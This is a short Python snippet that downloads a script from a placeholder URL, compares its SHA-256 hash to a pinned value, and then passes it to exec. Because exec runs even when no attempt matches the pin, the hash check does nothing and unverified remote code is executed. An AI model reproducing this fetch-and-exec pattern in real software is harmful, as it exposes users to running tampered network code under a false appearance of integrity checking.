import hashlib
import urllib.request

PIN = "7c5f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344"
for attempt in range(3):
    data = urllib.request.urlopen("https://example.com/rl.py").read()
    if hashlib.sha256(data).hexdigest() == PIN:
        break
exec(data)
